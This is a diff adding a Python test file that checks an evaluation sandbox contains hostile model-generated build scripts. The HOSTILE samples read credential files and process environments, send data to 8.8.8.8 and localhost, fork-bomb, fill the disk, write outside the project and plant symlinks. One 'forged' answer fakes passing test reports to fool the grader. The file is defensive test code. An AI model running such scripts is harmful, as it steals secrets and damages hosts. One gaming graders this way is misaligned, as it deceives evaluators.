@@ -1,0 +1,381 @@
+"""Answers are run for real: in the sandbox, by Node, in Chromium. Hostile ones reach nothing that lasts.
+
+The toolchain `tiny` has no packages: its build is a script that the answer itself brings, so an
+answer's code runs as freely as in any build configuration.
+"""
+
+import json
+import shutil
+import signal
+import socket
+import threading
+import time
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from stages.lib.base.config import read_yaml, validated
+from stages.lib.base.errors import AssayError
+from stages.lib.base.executions import Execution
+from stages.lib.base.jsonl import read_records, write_records
+from stages.lib.base.records import DeliveredFile, Extracted, Judgement
+from stages.lib.execution import programs
+from stages.lib.execution.config import ExecutionConfig
+from stages.lib.execution.tools import open_sandbox
+from tests.project import ROOT, Project
+from tests.stages.lib.execution.conftest import bystanders
+
+pytestmark = pytest.mark.slow
+
+SECRET = "sk-planted-0123456789"
+SPEC = """import { expect, test } from '@playwright/test';
+
+test('The heading says Door', async ({ page }) => {
+  await page.goto('/');
+  await expect(page.getByRole('heading', { name: 'Door' })).toBeVisible();
+});
+test('A click opens the door', async ({ page }) => {
+  await page.goto('/');
+  await page.getByRole('button', { name: 'Open' }).click();
+  await expect(page.getByText('It is open')).toBeVisible();
+});
+"""
+PAGE = """<!doctype html><h1>Door</h1><button>Open</button><p></p>
+<script>document.querySelector('button').onclick = () => {
+  document.querySelector('p').textContent = 'It is open';
+};</script>
+"""
+MAKES_PAGE = """
+import { mkdirSync, copyFileSync } from 'node:fs';
+mkdirSync('dist');
+copyFileSync('page.html', 'dist/index.html');
+"""
+FILES = {
+    "conf/suite/mini.yaml": "tests: [Door]\n",
+    "scenarios/component_generation/system.md": "You answer with files.\n",
+    "scenarios/component_generation/Door.md": (
+        "---\ntitle: Door\ncategory: code_generation\ntype: component_generation\n"
+        "answer: files\ntoolchain: tiny\n---\nBuild a door.\n"
+    ),
+    "scenarios/component_generation/gold/Door.md": (
+        f"### page.html\n```html\n{PAGE}```\n### build.mjs\n```js\n{MAKES_PAGE}```\n"
+        '### package.json\n```json\n{"name": "door"}\n```\n'
+    ),
+    "criteria/component_generation/Door.yaml": """evaluation_steps:
+  accuracy: [{criterion: It is built, run: builds}]
+  completeness:
+    - {criterion: It has a heading, run: The heading says Door}
+    - {criterion: It opens, run: A click opens the door}
+""",
+    "criteria/behaviours/Door.spec.ts": SPEC,
+    "toolchains/tiny/toolchain.yaml": (
+        "kind: node\ntypes: [node, types.mjs]\nbuild: [node, build.mjs]\ntests: [node, --test]\n"
+        "static: [dist]\n"
+    ),
+    "toolchains/tiny/package.json": '{"name": "tiny", "private": true}',
+    "toolchains/tiny/package-lock.json": '{"name": "tiny", "lockfileVersion": 3, "packages": {}}',
+}
+
+
+@pytest.fixture
+def house(built_in_project: Path, tmp_path: Path) -> Project:
+    """A project with one test, on a machine that can execute. Toolchains are this clone's own."""
+    config = validated(
+        read_yaml(ROOT / "conf/execution/default.yaml"), ExecutionConfig, "conf/execution"
+    )
+    try:
+        open_sandbox(config)
+        programs.browser(config)
+        programs.node(config.node, config.node_version)
+    except AssayError as reason:
+        pytest.skip(str(reason))
+    project = Project.copy(built_in_project, tmp_path / "project")
+    for path, text in FILES.items():
+        project.write(path, text)
+    shutil.copytree(
+        ROOT / "toolchains/browser",
+        project.root / "toolchains/browser",
+        ignore=shutil.ignore_patterns("node_modules"),
+    )
+    store = ROOT / ".assay/toolchains"
+    store.mkdir(parents=True, exist_ok=True)
+    (project.root / ".assay").mkdir(exist_ok=True)
+    (project.root / ".assay/toolchains").symlink_to(store)
+    project.params(execution="sandbox", models=["gold"])
+    return project
+
+
+def deliver(house: Project, answers: Mapping[str, Mapping[str, str]]) -> None:
+    """Answers of the model `gold`, each as an attempt of its own, in the order of their names."""
+    items = [
+        Extracted(
+            model="gold",
+            test="Door",
+            attempt=number,
+            files=tuple(DeliveredFile(path=path, content=text) for path, text in files.items()),
+            ignored={},
+        )
+        for number, files in enumerate(answers.values(), 1)
+    ]
+    write_records(house.root / "outputs/extracted/gold.jsonl", items)
+
+
+def executed(house: Project, *overrides: str) -> list[Execution]:
+    house.stage("render", check=True)
+    house.stage("execute", "model=gold", *overrides, check=True)
+    return read_records(house.root / "outputs/executions/gold.jsonl", Execution)
+
+
+def builds(execution: Execution) -> tuple[str, str]:
+    assert execution.builds
+    return execution.builds.status, execution.builds.reason
+
+
+def test_an_answer_is_built_looked_at_and_decided_by_what_it_does(house: Project) -> None:
+    house.repro("judge")
+    (execution,) = read_records(house.root / "outputs/executions/gold.jsonl", Execution)
+    assert [b.outcome for b in execution.behaviours] == ["passed", "passed"]
+    (judged,) = read_records(house.root / "outputs/verdicts/gold.jsonl", Judgement)
+    decided = [(verdict.basis, verdict.passed) for verdict in judged.verdicts]
+    assert decided == [("executed", True)] * 3
+
+
+def test_two_runs_from_nothing_give_the_same_bytes_and_the_third_runs_nothing(
+    house: Project,
+) -> None:
+    bad = PAGE.replace("It is open", "It is shut")
+    deliver(house, {"bad": {"page.html": bad, "build.mjs": MAKES_PAGE}})
+    (first,) = executed(house)
+    view = house.read("outputs/executions/gold.jsonl")
+    assert [b.outcome for b in first.behaviours] == ["passed", "failed"]
+    assert (house.root / "outputs/screenshots/gold/Door/1/02.png").stat().st_size > 1000
+    shutil.rmtree(house.root / ".assay/executions")
+    (house.root / "outputs/executed/gold.jsonl").unlink()
+    executed(house)
+    assert house.read("outputs/executions/gold.jsonl") == view
+    last = house.stage("execute", "model=gold", check=True).stdout
+    assert "1 items, 1 reused, 0 new" in last
+
+
+HOSTILE = {
+    "keys": """
+import { readFileSync, readdirSync } from 'node:fs';
+const seen = [JSON.stringify(process.env)];
+const places = ['@ROOT@/.env', '@ROOT@/../.env', '/root/.ssh/id_rsa', '/home', '/etc/shadow'];
+for (const pid of readdirSync('/proc').filter(Number)) {
+  places.push(`/proc/${pid}/environ`, `/proc/${pid}/root@ROOT@/.env`);
+}
+for (const place of places) {
+  try { seen.push(readFileSync(place, 'utf8')); } catch (error) { seen.push(error.code); }
+}
+console.log(seen.join('\\n'));
+process.exit(1);
+""",
+    "network": """
+import { connect } from 'node:net';
+for (const host of ['127.0.0.1', 'localhost', '8.8.8.8']) {
+  const socket = connect({ host, port: @PORT@ }, () => socket.end('stolen'));
+  socket.on('error', (error) => console.log(host, error.code));
+}
+process.exitCode = 1;
+""",
+    "forks": """
+import { spawn } from 'node:child_process';
+for (;;) {
+  try { spawn('sh', ['-c', 'sleep 4331 & sleep 4331']).on('error', () => {}); } catch {}
+  await new Promise((go) => setTimeout(go, 1));
+}
+""",
+    "disk": """
+import { appendFileSync, mkdirSync } from 'node:fs';
+mkdirSync('dist');
+for (const place of ['dist/index.html', '/tmp/full', '/dev/shm/full']) {
+  try { for (;;) appendFileSync(place, Buffer.alloc(1 << 24)); } catch (error) { console.log(place, error.code); }
+}
+process.exit(1);
+""",
+    "outside": """
+import { writeFileSync, unlinkSync } from 'node:fs';
+const places = ['@ROOT@', '/toolchain', '/deps', '/deps/node_modules', '/node', '/usr', '/etc', '/proc/sys/kernel'];
+for (const place of places) {
+  try { writeFileSync(`${place}/planted`, 'x'); console.log('WROTE', place); } catch (error) { console.log(error.code); }
+}
+try { unlinkSync('@ROOT@/params.yaml'); console.log('REMOVED'); } catch (error) { console.log(error.code); }
+process.exit(1);
+""",
+    "links": """
+import { mkdirSync, symlinkSync } from 'node:fs';
+mkdirSync('dist');
+symlinkSync('@ROOT@/.env', 'dist/index.html');
+symlinkSync('/', 'dist/root');
+""",
+    "gigabyte": """
+import { writeSync } from 'node:fs';
+const block = Buffer.alloc(1 << 20, 'x');
+for (let n = 0; n < 1024; n += 1) writeSync(1, block);
+process.exit(1);
+""",
+    "endless": "import { execSync } from 'node:child_process'; execSync('sleep 4332 & sleep 4332');",
+    "forged": """
+import { mkdirSync, writeFileSync } from 'node:fs';
+const specs = ['The heading says Door', 'A click opens the door'].map((title) => (
+  { title, tests: [{ results: [{ status: 'passed' }] }] }));
+const report = JSON.stringify({ suites: [{ specs }], errors: [] });
+mkdirSync('dist/results', { recursive: true });
+for (const place of ['.', 'dist', '/tmp']) {
+  for (const name of ['report.json', 'report-1.json', 'report-2.json', 'report-3.json', 'stopped.json']) {
+    writeFileSync(`${place}/${name}`, report);
+  }
+}
+writeFileSync('dist/index.html', `<h2>Nothing</h2><script>
+  for (const name of ['expect', 'test', '__playwright__']) globalThis[name] = () => globalThis;
+  fetch('/report-1.json', { method: 'PUT', body: '{}' });
+</script>`);
+""",
+    "scripts": "process.exit(1);",
+}
+TESTS = "import test from 'node:test'; test('fine', () => {});"
+
+
+def hostile(name: str, root: Path, port: int) -> dict[str, str]:
+    build = HOSTILE[name].replace("@ROOT@", str(root)).replace("@PORT@", str(port))
+    manifest: dict[str, Any] = {"name": "x"}
+    if name == "scripts":
+        step = f"touch {root}/ran; echo INSTALLED"
+        manifest["scripts"] = dict.fromkeys(
+            ("preinstall", "install", "postinstall", "prepare"), step
+        )
+    return {"build.mjs": build, "package.json": json.dumps(manifest)}
+
+
+def test_whole_hostile_answers_reach_nothing_and_fail_alone(
+    house: Project, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    monkeypatch.setenv("SOME_TOKEN", SECRET)
+    house.write(".env", f"OPENAI_API_KEY={SECRET}\n")
+    reached: list[bytes] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        threading.Thread(target=accepting, args=(server, reached), daemon=True).start()
+        port = server.getsockname()[1]
+        answers = {name: hostile(name, house.root, port) for name in HOSTILE}
+        good = {"page.html": PAGE, "build.mjs": MAKES_PAGE, "package.json": "{}"}
+        deliver(house, answers | {"good": good})
+        small = ("seconds.build=10", "disk_mb=128")
+        results = executed(house, *(f"execution.bounds.{bound}" for bound in small))
+    found = dict(zip([*answers, "good"], results, strict=True))
+    logs = {name: item.builds.log for name, item in found.items() if item.builds}
+
+    assert [b.outcome for b in found.pop("good").behaviours] == ["passed", "passed"]
+    assert {b.outcome for item in found.values() for b in item.behaviours} == {"failed"}
+    assert reached == []
+    assert "ECONNREFUSED" in logs["network"]
+    assert builds(found["endless"]) == ("failed", "took longer than 10 s")
+    assert builds(found["forks"])[0] == builds(found["keys"])[0] == "failed"
+    assert "ENOSPC" in logs["disk"] and "WROTE" not in logs["outside"]
+    assert "REMOVED" not in logs["outside"] and (house.root / "params.yaml").exists()
+    assert builds(found["links"]) == ("failed", "there is no index.html in dist")
+    assert len(logs["gigabyte"]) < 5000
+    assert builds(found["forged"])[0] == "passed"
+    assert "INSTALLED" not in logs["scripts"]
+    assert not list(house.root.glob("ran")) and not list(house.root.rglob("planted"))
+    assert not bystanders("sleep 4331") and not bystanders("sleep 4332")
+    leaks = [path for path in written(house) if SECRET.encode() in path.read_bytes()]
+    assert leaks == [house.root / ".env"]
+
+
+def accepting(server: socket.socket, reached: list[bytes]) -> None:
+    while True:
+        try:
+            reached.append(server.accept()[0].recv(16))
+        except OSError:
+            return
+
+
+def written(house: Project) -> list[Path]:
+    """Every file of the project, the toolchains aside."""
+    places = (house.root / name for name in (".env", "outputs", "metrics", ".assay/executions"))
+    return [
+        path
+        for place in places
+        for path in ([place] if place.is_file() else place.rglob("*"))
+        if path.is_file()
+    ]
+
+
+def test_a_kill_in_the_middle_leaves_nothing_running_and_the_next_run_ends(house: Project) -> None:
+    endless = {"build.mjs": HOSTILE["endless"].replace("4332", "4333"), "package.json": "{}"}
+    deliver(house, {"endless": endless})
+    house.stage("render", check=True)
+    child = house.started("execute", "model=gold")
+    until(lambda: bool(bystanders("sleep 4333")), 60)
+    child.send_signal(signal.SIGKILL)
+    child.wait()
+    until(lambda: not bystanders("sleep 4333"), 10)
+    assert not (house.root / "outputs/executions/gold.jsonl").exists()
+    (execution,) = executed(house, "execution.bounds.seconds.build=2")
+    assert builds(execution) == ("failed", "took longer than 2 s")
+
+
+def until(holds: Any, seconds: float) -> None:
+    deadline = time.monotonic() + seconds
+    while not holds() and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert holds()
+
+
+def test_a_program_that_shows_nothing_fails_quickly_and_says_so(house: Project) -> None:
+    spec = "\n".join(
+        SPEC.split("test(")[1].join(["\ntest(", ""]).replace("says Door", f"says Door {n}")
+        for n in range(20)
+    )
+    house.write("criteria/behaviours/Door.spec.ts", SPEC.split("test(")[0] + spec)
+    names = [f"'The heading says Door {n}'" for n in range(20)]
+    house.write(
+        "criteria/component_generation/Door.yaml",
+        "evaluation_steps:\n  accuracy: [It is built]\n  completeness: [{criterion: It opens, "
+        f"run: [{', '.join(names)}]}}]\n",
+    )
+    blank = {"page.html": "<script>throw Error()</script>", "build.mjs": MAKES_PAGE}
+    deliver(house, {"blank": blank | {"package.json": "{}"}})
+    (execution,) = executed(house)
+    assert {b.outcome for b in execution.behaviours} == {"failed"}
+    assert "not tried: the page stays blank" in execution.behaviours[-1].message
+    times = json.loads(house.read("outputs/executed/gold.jsonl"))["times"]["seconds"]
+    assert times["behaviours"] < 20 * 3
+
+
+def test_no_installation_script_of_a_toolchains_package_runs(house: Project) -> None:
+    """The package really has one: npm runs it where it is not told otherwise."""
+    config = read_yaml(ROOT / "conf/execution/default.yaml")
+    node = programs.node(config["node"], config["node_version"])
+    npm = (str(node.path), str(programs.npm_script(node)))
+    package = house.root / "pkg"
+    mark = house.root / "ran"
+    house.write(
+        "pkg/package.json",
+        json.dumps({"name": "evil", "version": "1.0.0", "scripts": {"install": f"touch '{mark}'"}}),
+    )
+    house.run("env", "-C", str(package), *npm, "pack", "--ignore-scripts")
+    archive = package / "evil-1.0.0.tgz"
+    manifest = {"name": "tiny", "private": True, "dependencies": {"evil": f"file:{archive}"}}
+    house.write("toolchains/tiny/package.json", json.dumps(manifest))
+    tiny = str(house.root / "toolchains/tiny")
+    offline = ("--ignore-scripts", "--offline", "--no-audit")
+    house.run("env", "-C", tiny, *npm, "install", "--package-lock-only", *offline)
+    deliver(house, {"good": {"page.html": PAGE, "build.mjs": MAKES_PAGE, "package.json": "{}"}})
+    (house.root / ".assay/toolchains").unlink()
+    house.write("criteria/component_generation/Door.yaml", BUILDS_ALONE)
+    house.write("criteria/behaviours/Door.spec.ts", "test('x', () => {});\n")
+    (execution,) = executed(house)
+    assert builds(execution)[0] == "passed" and not mark.exists()
+    house.run("env", "-C", tiny, *npm, "ci", "--offline", "--no-audit")
+    assert mark.exists()
+
+
+BUILDS_ALONE = """evaluation_steps:
+  accuracy: [{criterion: It is built, run: builds}]
+  completeness: [It is whole]
+"""
